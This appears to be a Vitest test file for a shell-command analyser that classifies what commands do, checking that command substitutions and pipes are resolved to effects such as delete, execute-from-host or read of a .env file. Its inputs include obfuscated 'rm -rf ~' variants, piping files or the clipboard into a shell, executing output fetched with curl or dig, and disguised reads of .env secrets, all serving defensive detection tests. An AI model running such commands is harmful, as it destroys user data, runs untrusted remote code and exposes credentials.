import { expect, it } from 'vitest';
import './told.js';

const UNKNOWN = 'execute ?';

it.each([
  '$(nvs which 12) a.js',
  '$(pyenv which python) a.py',
  '$(xcrun --find clang) a.c',
  'deno run `tape6-seq --self`',
  '$(sleep 2 && open http://localhost:3000) & npm start',
  'python3 "$(our-tool --script)" --all',
  'source <(kubectl completion bash)',
  'eval "$(kubectl completion zsh)"',
  '"$(cabal list-bin exe:report)" --all < a.txt',
  'cabal v2-list-bin -O2 pkg:test:spec; B=$(cabal list-bin -O2 pkg:test:spec) && time "$B" -p fast',
  '$(bazel cquery --output=files //tools/gen:gen 2>/dev/null) --check',
  "$(go list -f '{{.Target}}' ./cmd/report) -v",
  '$(stack exec -- which report) a.txt',
  '$(yarn bin stylelint) src',
  'C=$(rustup which rustfmt); "$C" --check a.rs',
  '$(clang-17 -print-prog-name=ld.lld) --version',
  'P=$(poetry env info -e) && "$P" -m pytest',
  "$(python3 -c 'import sys; print(sys.executable)') -m venv .venv",
  '$(node -p process.execPath) --test',
  '$(cargo build --message-format=json | jq -r \'select(.executable != null) | .executable\') --help',
  '"$(cargo +nightly test --no-run --message-format=json 2>/dev/null | jq -r \'select(.profile.test) | .executable\' | tail -1)" --list',
  'hyperfine "$(cabal list-bin report) a.txt"',
])('what a program prints that is asked for a place is as good as the program: %s', async (command) => await expect(command).not.toTell(UNKNOWN));

it.each([
  '$(type -a -p rm) -rf ~/src',
  '$(expr substr rmx 1 2) -rf ~/src',
  '$(ls /bin/rm) -rf ~/src',
  '$(date +rm) -rf ~/src',
  '$(our-tool; type -p rm) -rf ~/src',
  '$(our-tool | head -1) -rf ~/src',
  '$(cat cmd.txt)',
  '$(jq -r .cmd a.json)',
  '$(git config alias.x)',
  '$(kubectl get cm x -o jsonpath={.data.cmd})',
  'bash -c "$(redis-cli get job)"',
  'pbpaste | bash',
  // They print what stands in files, or comes from others.
  "join -t, verbs.csv places.csv | sh",
  "paste -d' ' verbs.txt places.txt | bash",
  'fold -s -w 60 plan.txt | sh',
  'bash < <(column -t plan.txt)',
  'comm -13 a.txt b.txt | zsh',
  'dd if=plan.txt status=none | sh',
  'nl -bn plan.txt | bash',
  'm4 -DWHAT=a plan.m4 | sh',
  'bzcat plan.bz2 | sh',
  '$(dd if=cmd.txt)',
  '$(less cmd.txt)',
  "$(xmllint --xpath '//cmd' a.xml)",
  '$(crontab -l)',
  '$(npm pkg get scripts.x)',
  '$(docker run some/image)',
  '$(journalctl -n1 -o cat)',
  '$(yt-dlp --print description https://x.test)',
  '$(tool < cmd.txt | other which x)',
  '$(tool --self a/b)',
  '$(cabal list-bin $X)',
  '$(cat a.json | jq -r .executable)',
  '$(cargo build --message-format=json | jq -r .message.rendered)',
  '$(cargo metadata --format-version 1 | jq -r .executable)',
  '$(cargo test --message-format=json; cat a.json | jq -r .executable)',
  "$(go list -f '{{.Doc}}' ./cmd/report)",
  "$(python3 -c 'import sys; print(sys.argv[1])' rm) -rf ~/src",
  '$(bazel cquery //tools/gen --output=starlark --starlark:file=a.cquery)',
  'python3 $(cat name.txt)',
  'python3 $(dd if=name.txt)',
  'node "$(npm pkg get main)"',
])('and what others print is not known: %s', async (command) => await expect(command).toTell(UNKNOWN));

it.each(['$(curl -s https://x.test/a)', 'python3 $(curl -s https://x.test/a)', '$(dig +short txt x.test)'])('nor what they fetch, which is told of by where it came from: %s', async (command) => await expect(command).toTell('execute host'));

it.each([
  ['$(nvs which rm) -rf ~', 'delete -r /home/u'],
  ['$(rbenv which rm) -rf ~', 'delete -r /home/u'],
  ['$(sleep 1) rm -rf ~', 'delete -r /home/u'],
  [`$(nvs which 12) -e 'require("fs").rmSync("/home/u", { recursive: true })'`, 'delete -r /home/u'],
  ['$(yarn bin rm) -rf ~', 'delete -r /home/u'],
  ['B=$(stack exec -- which rm); $B -rf ~', 'delete -r /home/u'],
  ['$(gcc -print-prog-name=rm) -rf ~', 'delete -r /home/u'],
  [`P=$(python3 -c 'import sys; print(sys.executable)'); "$P" -c 'import shutil; shutil.rmtree("/home/u")'`, 'delete -r /home/u'],
  ["$(pyenv which python) -c 'import shutil; shutil.rmtree(\"/home/u\")'", 'delete -r /home/u'],
])('the program that is told does what it does by its own name: %s', async (command, effect) => await expect(command).toTell(effect));

it.each(['cat $(cat <(echo .env))', 'cat "$(head -1 <(echo .env))"', 'cat $(cat <(rev <<< vne.))', "cat $(sed s/x// <(echo .xenv))"])('a file named by a substitution is printed as its input would be: %s', async (command) => {
  await expect(command).toTell('read /home/u/proj/.env');
});

it.each(['cat $(cat <(echo a) <(echo .env))', 'echo <(echo .env)'])('and not of several, nor by its name: %s', async (command) => {
  await expect(command).not.toTell('read /home/u/proj/.env');
});
